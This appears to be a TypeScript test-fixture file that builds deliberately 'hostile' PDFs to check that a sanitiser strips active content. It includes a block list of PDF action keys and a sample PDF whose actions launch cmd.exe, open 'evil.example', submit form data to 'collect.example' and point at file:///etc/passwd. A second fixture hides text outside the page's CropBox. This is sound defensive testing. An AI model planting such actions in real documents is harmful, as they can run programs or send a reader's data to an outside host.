import { degrees, PDFArray, PDFDict, PDFDocument, PDFHexString, PDFName, PDFRef, PDFStream, PDFString, StandardFonts, type PDFObject } from 'pdf-lib';

/** Keys and names (action and annotation types) that must never reach a bundle. */
export const ACTIVE_KEYS = ['JS', 'JavaScript', 'AA', 'OpenAction', 'Launch', 'SubmitForm', 'ImportData', 'GoToR', 'GoToE', 'EmbeddedFiles', 'EF', 'RichMedia', '3D', 'RichMediaContent', '3DD', 'XFA', 'AcroForm', 'Widget'];

/** Every key and name value in every object of a saved PDF, indirect or nested. */
export function everyName(doc: PDFDocument): Set<string> {
  const names = new Set<string>();
  const visit = (value: PDFObject): void => {
    if (value instanceof PDFName) names.add(value.decodeText());
    else if (value instanceof PDFArray) value.asArray().forEach(visit);
    else if (value instanceof PDFDict || value instanceof PDFStream) {
      const dict = value instanceof PDFStream ? value.dict : value;
      for (const [key, child] of dict.entries()) {
        names.add(key.decodeText());
        if (!(child instanceof PDFRef)) visit(child);
      }
    }
  };
  for (const [, object] of doc.context.enumerateIndirectObjects()) visit(object);
  visit(doc.context.trailerInfo.Root as PDFObject);
  return names;
}

/**
 * A one-page PDF carrying every kind of active content the bundle must strip:
 * a document open script and a script in the /Names tree, an embedded file,
 * an XFA form, a page-open script, links that run a script, launch a program,
 * submit or import data or open other files, a web link (kept), rich media and
 * 3D annotations, a file attachment, and a filled text field with its own script.
 */
export async function hostilePdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([595, 842]);
  page.drawText('HOSTILE PAGE TEXT', { x: 60, y: 760, size: 20, font });
  page.drawText('Visit https://example.com/proof', { x: 60, y: 700, size: 12, font });
  const { context } = doc;
  const js = (code: string) => context.obj({ S: 'JavaScript', JS: PDFString.of(code) });
  const fileSpec = (name: string) => {
    const file = context.register(context.flateStream('MZ not really a program', { Type: 'EmbeddedFile' }));
    return context.obj({ Type: 'Filespec', F: PDFString.of(name), EF: { F: file } });
  };
  doc.catalog.set(PDFName.of('OpenAction'), context.register(js('app.alert("open")')));
  doc.catalog.set(
    PDFName.of('Names'),
    context.obj({
      JavaScript: { Names: [PDFString.of('init'), context.register(js('app.alert("names")'))] },
      EmbeddedFiles: { Names: [PDFString.of('payload.exe'), context.register(fileSpec('payload.exe'))] },
    }),
  );
  page.node.set(PDFName.of('AA'), context.obj({ O: js('app.alert("page open")') }));

  const link = (y: number, action: PDFDict) => context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [60, y, 300, y + 14], Border: [0, 0, 0], A: action }));
  const appearance = context.register(
    context.stream(`/Tx BMC q BT /Helv 12 Tf 2 6 Td (FIELD VALUE 42) Tj ET Q EMC`, {
      Type: 'XObject',
      Subtype: 'Form',
      BBox: [0, 0, 200, 24],
      Resources: { Font: { Helv: font.ref } },
    }),
  );
  const widget = context.register(
    context.obj({ Type: 'Annot', Subtype: 'Widget', FT: 'Tx', T: PDFString.of('amount'), V: PDFString.of('FIELD VALUE 42'), Rect: [60, 600, 260, 624], AP: { N: appearance }, AA: { K: js('event.rc = true') }, P: page.ref }),
  );
  const annots: PDFRef[] = [
    link(680, js('app.launchURL("http://evil.example")')),
    link(660, context.obj({ S: 'Launch', F: PDFString.of('cmd.exe') })),
    link(640, context.obj({ S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('http://collect.example') } })),
    link(560, context.obj({ S: 'ImportData', F: PDFString.of('data.fdf') })),
    link(540, context.obj({ S: 'GoToR', F: PDFString.of('other.pdf'), D: [0, 'Fit'] })),
    link(520, context.obj({ S: 'GoToE', T: { R: 'C', N: PDFHexString.fromText('x') }, D: [0, 'Fit'] })),
    link(500, context.obj({ S: 'URI', URI: PDFString.of('https://example.com/proof'), Next: js('app.alert("chained")') })),
    link(480, context.obj({ S: 'URI', URI: PDFString.of('file:///etc/passwd') })),
    context.register(context.obj({ Type: 'Annot', Subtype: 'RichMedia', Rect: [300, 300, 400, 400], RichMediaContent: { Assets: {} } })),
    context.register(context.obj({ Type: 'Annot', Subtype: '3D', Rect: [400, 300, 500, 400], '3DD': context.register(context.stream('U3D', { Type: '3D', Subtype: 'U3D' })) })),
    context.register(context.obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: [500, 300, 520, 320], FS: fileSpec('invoice.html') })),
    widget,
  ];
  page.node.set(PDFName.of('Annots'), context.obj(annots));
  doc.catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [widget], XFA: context.register(context.stream('<xdp:xdp/>')), DA: PDFString.of('/Helv 0 Tf 0 g') }));
  return doc.save({ useObjectStreams: false });
}

/** A page whose MediaBox is larger than its CropBox, with a line drawn in the part a viewer never shows. */
export async function croppedPdf(rotation = 0, hidden = true): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([595, 1000]);
  page.drawText('SHOWN INSIDE THE CROPBOX', { x: 60, y: 700, size: 20, font });
  // Just outside the box: shrinking the page for the stamps would pull both lines into view.
  if (hidden) {
    page.drawText('HIDDEN ABOVE THE CROPBOX', { x: 60, y: 926, size: 20, font });
    page.drawText('HIDDEN BELOW THE CROPBOX', { x: 60, y: 62, size: 14, font });
  }
  page.setCropBox(0, 79, 595, 842);
  page.setRotation(degrees(rotation));
  return doc.save({ useObjectStreams: false });
}
